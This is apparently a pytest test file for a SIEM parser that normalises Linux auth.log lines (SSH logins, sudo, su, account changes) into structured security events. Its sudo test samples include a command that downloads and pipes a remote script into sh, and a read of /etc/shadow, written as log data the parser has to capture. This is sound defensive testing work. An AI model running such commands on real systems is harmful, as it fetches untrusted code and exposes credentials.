"""auth.log / secure lines as a SOC engineer searches them: logins, sudo, su, account changes."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from vigil.siem.parsers.base import Event, ParseContext, ParseError, ParseFailure, get, run_batch
from vigil.siem.parsers.linux_auth import LinuxAuthParser

from .text_fuzz import check_never_raises

CTX = ParseContext(source="bastion", timezone=ZoneInfo("Asia/Shanghai"),
                   received_at=datetime(2026, 3, 10, 4, 0, tzinfo=UTC))
PARSER = LinuxAuthParser()

SAMPLES = [
    b"Mar 10 11:58:01 bastion sshd[4012]: Accepted password for alice from 203.0.113.5 port 52311 ssh2",
    b"Mar 10 11:58:02 bastion sshd[4013]: Failed password for invalid user admin from 198.51.100.7 port 4242 ssh2",
    b"Mar 10 11:58:03 bastion sshd[4014]: Invalid user oracle from 198.51.100.7 port 4243",
    b"Mar 10 11:58:04 bastion sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update",
    b"Mar 10 11:58:05 bastion useradd[5120]: new user: name=bob, UID=1001, GID=1001, home=/home/bob, "
    b"shell=/bin/bash, from=/dev/pts/0",
    b"Mar 10 11:58:06 bastion su[5200]: pam_unix(su:auth): authentication failure; logname=alice uid=1000 "
    b"euid=0 tty=pts/0 ruser=alice rhost=  user=root",
]


def parse(line: str | bytes) -> Event:
    return PARSER.parse_one(line.encode() if isinstance(line, str) else line, CTX)


def pick(event: Event, *fields: str) -> dict[str, object]:
    return {name: get(event, name) for name in fields}


AUTH = ("event.category", "event.type", "event.action", "event.outcome", "user.name", "source.ip", "source.port")


def test_accepted_password_is_a_successful_ssh_login() -> None:
    event = parse(SAMPLES[0])
    assert pick(event, *AUTH) == {
        "event.category": ["authentication"], "event.type": ["start"], "event.action": "ssh_login",
        "event.outcome": "success", "user.name": "alice", "source.ip": "203.0.113.5", "source.port": 52311,
    }
    assert event["@timestamp"] == datetime(2026, 3, 10, 3, 58, 1, tzinfo=UTC)  # 11:58 in Shanghai
    assert pick(event, "host.hostname", "process.name", "process.pid", "event.module", "event.dataset") == {
        "host.hostname": "bastion", "process.name": "sshd", "process.pid": 4012,
        "event.module": "system", "event.dataset": "system.auth",
    }
    assert get(event, "event.original") == SAMPLES[0].decode()
    assert get(event, "system.auth.ssh.method") == "password"


def test_failed_password_for_invalid_user() -> None:
    event = parse(SAMPLES[1])
    assert pick(event, "event.action", "event.outcome", "user.name", "source.ip", "system.auth.ssh.invalid_user") == {
        "event.action": "ssh_login", "event.outcome": "failure", "user.name": "admin", "source.ip": "198.51.100.7",
        "system.auth.ssh.invalid_user": True,
    }


def test_publickey_login_keeps_the_key_fingerprint() -> None:
    event = parse("Mar 10 09:00:00 bastion sshd[1]: Accepted publickey for deploy from 2001:db8::7 port 60000 ssh2: "
                  "ED25519 SHA256:Vx3kz0Fh")
    assert pick(event, "event.outcome", "user.name", "source.ip", "system.auth.ssh.method",
                "system.auth.ssh.signature") == {
        "event.outcome": "success", "user.name": "deploy", "source.ip": "2001:db8::7",
        "system.auth.ssh.method": "publickey", "system.auth.ssh.signature": "ED25519 SHA256:Vx3kz0Fh",
    }


@pytest.mark.parametrize(("message", "expected"), [
    ("Invalid user oracle from 198.51.100.7 port 4243",
     {"event.action": "ssh_invalid_user", "event.outcome": "failure", "user.name": "oracle", "source.port": 4243}),
    ("error: maximum authentication attempts exceeded for root from 198.51.100.7 port 4250 ssh2 [preauth]",
     {"event.action": "ssh_max_auth_attempts", "event.outcome": "failure", "user.name": "root", "source.port": 4250}),
    ("Disconnected from authenticating user root 198.51.100.7 port 4251 [preauth]",
     {"event.action": "ssh_disconnect", "event.outcome": "failure", "user.name": "root", "source.port": 4251}),
    ("Connection closed by invalid user test 198.51.100.7 port 4252 [preauth]",
     {"event.action": "ssh_disconnect", "event.outcome": None, "user.name": "test", "source.port": 4252}),
    ("Received disconnect from 198.51.100.7 port 4253:11: Bye Bye [preauth]",
     {"event.action": "ssh_disconnect", "event.outcome": None, "user.name": None, "source.port": 4253}),
])
def test_other_sshd_messages(message: str, expected: dict[str, object]) -> None:
    event = parse(f"Mar 10 09:00:00 bastion sshd[77]: {message}")
    assert pick(event, *expected) == expected
    assert get(event, "source.ip") == "198.51.100.7"


def test_ssh_session_opened_and_closed() -> None:
    opened = parse("Mar 10 09:00:01 bastion sshd[78]: pam_unix(sshd:session): session opened for user alice(uid=1000) "
                   "by (uid=0)")
    closed = parse("Mar 10 09:30:01 bastion sshd[78]: pam_unix(sshd:session): session closed for user alice")
    assert pick(opened, "event.category", "event.type", "event.action", "user.name") == {
        "event.category": ["session"], "event.type": ["start"], "event.action": "session_opened", "user.name": "alice"}
    assert pick(closed, "event.type", "event.action", "user.name") == {
        "event.type": ["end"], "event.action": "session_closed", "user.name": "alice"}


def test_sudo_command() -> None:
    event = parse(SAMPLES[3])
    assert pick(event, "event.category", "event.type", "event.action", "event.outcome", "user.name",
                "user.target.name", "process.command_line", "process.working_directory", "process.name") == {
        "event.category": ["process"], "event.type": ["start"], "event.action": "sudo_command",
        "event.outcome": "success", "user.name": "alice", "user.target.name": "root",
        "process.command_line": "/usr/bin/apt update", "process.working_directory": "/home/alice",
        "process.name": "sudo",
    }


def test_sudo_failures() -> None:
    wrong = parse("Mar 10 09:00:00 bastion sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; "
                  "PWD=/home/alice ; USER=root ; COMMAND=/bin/bash")
    denied = parse("Mar 10 09:00:00 bastion sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; "
                   "USER=root ; COMMAND=/bin/cat /etc/shadow")
    assert pick(wrong, "event.category", "event.action", "event.outcome", "user.name", "user.target.name") == {
        "event.category": ["authentication"], "event.action": "sudo_auth_failure", "event.outcome": "failure",
        "user.name": "alice", "user.target.name": "root"}
    assert pick(denied, "event.action", "event.outcome", "user.name", "process.command_line") == {
        "event.action": "sudo_denied", "event.outcome": "failure", "user.name": "bob",
        "process.command_line": "/bin/cat /etc/shadow"}


@pytest.mark.parametrize(("message", "outcome"), [
    ("Successful su for root by alice", "success"),
    ("FAILED su for root by alice", "failure"),
    ("(to root) alice on pts/0", "success"),
])
def test_su(message: str, outcome: str) -> None:
    event = parse(f"Mar 10 09:00:00 bastion su[90]: {message}")
    assert pick(event, "event.category", "event.action", "event.outcome", "user.name", "user.target.name") == {
        "event.category": ["authentication"], "event.action": "su", "event.outcome": outcome,
        "user.name": "alice", "user.target.name": "root"}


def test_pam_su_authentication_failure() -> None:
    event = parse(SAMPLES[5])
    assert pick(event, "event.action", "event.outcome", "user.name", "user.target.name") == {
        "event.action": "su_auth_failure", "event.outcome": "failure", "user.name": "alice",
        "user.target.name": "root"}


def test_account_management() -> None:
    created = parse(SAMPLES[4])
    assert pick(created, "event.category", "event.type", "event.action", "user.name", "user.id", "group.id") == {
        "event.category": ["iam"], "event.type": ["user", "creation"], "event.action": "user_created",
        "user.name": "bob", "user.id": "1001", "group.id": "1001"}
    group = parse("Mar 10 09:00:00 bastion groupadd[5119]: new group: name=dev, GID=1002")
    assert pick(group, "event.action", "group.name", "group.id") == {
        "event.action": "group_created", "group.name": "dev", "group.id": "1002"}
    deleted = parse("Mar 10 09:00:00 bastion userdel[5300]: delete user 'bob'")
    assert pick(deleted, "event.type", "event.action", "user.name") == {
        "event.type": ["user", "deletion"], "event.action": "user_deleted", "user.name": "bob"}
    changed = parse("Mar 10 09:00:00 bastion passwd[5301]: pam_unix(passwd:chauthtok): password changed for bob")
    assert pick(changed, "event.category", "event.action", "user.target.name") == {
        "event.category": ["iam"], "event.action": "password_changed", "user.target.name": "bob"}


def test_unrecognised_message_is_still_an_event() -> None:
    event = parse("Mar 10 09:00:00 bastion sshd[80]: Server listening on 0.0.0.0 port 22.")
    assert get(event, "message") == "Server listening on 0.0.0.0 port 22."
    assert get(event, "event.action") is None


def test_iso_timestamps_of_newer_distributions() -> None:
    event = parse("2026-03-10T11:58:01.123456+08:00 bastion sshd[4012]: Accepted password for alice from "
                  "203.0.113.5 port 52311 ssh2")
    assert event["@timestamp"] == datetime(2026, 3, 10, 3, 58, 1, 123456, tzinfo=UTC)


def test_december_lines_read_in_january_are_last_year() -> None:
    ctx = ParseContext(timezone=ZoneInfo("Asia/Shanghai"), received_at=datetime(2027, 1, 2, 1, 0, tzinfo=UTC))
    event = PARSER.parse_one(b"Dec 31 23:59:59 bastion sshd[1]: Invalid user x from 192.0.2.1", ctx)
    assert event["@timestamp"] == datetime(2026, 12, 31, 15, 59, 59, tzinfo=UTC)


def test_invalid_utf8_is_kept_and_the_line_parsed() -> None:
    raw = b"Mar 10 09:00:00 bastion sshd[81]: Invalid user \xff\xfeadm from 192.0.2.9 port 1"
    event = parse(raw)
    assert get(event, "vigil.invalid_utf8") is True
    assert base64.b64decode(get(event, "vigil.original_base64")) == raw
    assert get(event, "source.ip") == "192.0.2.9"


def test_not_an_auth_line() -> None:
    with pytest.raises(ParseError, match="timestamp"):
        parse(b'{"message": "hello"}')
    with pytest.raises(ParseError, match="tag"):
        parse(b"Mar 10 09:00:00 bastion just words")
    assert PARSER.sniff(SAMPLES[0])
    assert not PARSER.sniff(b'127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 2326')
    assert not PARSER.sniff(b"Mar 10 09:00:00 web01 nginx[12]: started")


def test_batch_keeps_good_lines_around_a_bad_one() -> None:
    bad = b"\x00\x01 garbage"
    results = run_batch(PARSER, [SAMPLES[0], bad, SAMPLES[1]], CTX)
    assert [get(r, "user.name") if isinstance(r, dict) else r for r in results][::2] == ["alice", "admin"]
    failure = results[1]
    assert isinstance(failure, ParseFailure)
    assert (failure.raw, failure.parser, failure.source) == (bad, "linux_auth", "bastion")
    assert "timestamp" in failure.reason


def test_fuzz() -> None:
    check_never_raises(PARSER, SAMPLES)


def test_rsyslog_repeated_message_is_analysed_as_what_it_repeats() -> None:
    event = parse("Mar 10 09:00:00 bastion sshd[82]: message repeated 5 times: [ Failed password for root from "
                  "198.51.100.7 port 4260 ssh2]")
    assert pick(event, "event.action", "event.outcome", "user.name", "source.port", "system.auth.repeated") == {
        "event.action": "ssh_login", "event.outcome": "failure", "user.name": "root", "source.port": 4260,
        "system.auth.repeated": 5}


def test_sudo_command_containing_semicolons() -> None:
    event = parse("Mar 10 09:00:00 bastion sudo:    alice : TTY=pts/0 ; PWD=/root ; USER=root ; "
                  "COMMAND=/bin/sh -c echo a ; curl http://198.51.100.1/x | sh")
    assert pick(event, "event.outcome", "process.command_line", "process.working_directory") == {
        "event.outcome": "success", "process.command_line": "/bin/sh -c echo a ; curl http://198.51.100.1/x | sh",
        "process.working_directory": "/root"}


def test_pam_authentication_failure_for_sshd() -> None:
    event = parse("Mar 10 09:00:00 bastion sshd[83]: pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                  "euid=0 tty=ssh ruser= rhost=198.51.100.7  user=root")
    assert pick(event, "event.category", "event.action", "event.outcome", "user.name", "source.ip") == {
        "event.category": ["authentication"], "event.action": "sshd_auth_failure", "event.outcome": "failure",
        "user.name": "root", "source.ip": "198.51.100.7"}


def test_sudo_session_names_who_became_whom() -> None:
    event = parse("Mar 10 09:00:00 bastion sudo: pam_unix(sudo:session): session opened for user root(uid=0) by "
                  "alice(uid=1000)")
    assert pick(event, "event.action", "user.name", "user.target.name") == {
        "event.action": "session_opened", "user.name": "alice", "user.target.name": "root"}


def test_console_logins_and_logind_sessions() -> None:
    failed = parse("Mar 10 09:00:00 bastion login[700]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', "
                   "Authentication failure")
    assert pick(failed, "event.action", "event.outcome", "user.name", "process.tty.name") == {
        "event.action": "login", "event.outcome": "failure", "user.name": "root", "process.tty.name": "/dev/tty1"}
    session = parse("Mar 10 09:00:00 bastion systemd-logind[600]: New session 42 of user alice.")
    assert pick(session, "event.category", "event.action", "user.name", "system.auth.session.id") == {
        "event.category": ["session"], "event.action": "session_opened", "user.name": "alice",
        "system.auth.session.id": "42"}
    assert PARSER.sniff(b"Mar 10 09:17:01 bastion CRON[900]: pam_unix(cron:session): session closed for user root")
    assert PARSER.sniff(b"Mar 10 09:17:01 bastion systemd-logind[600]: Removed session 42.")
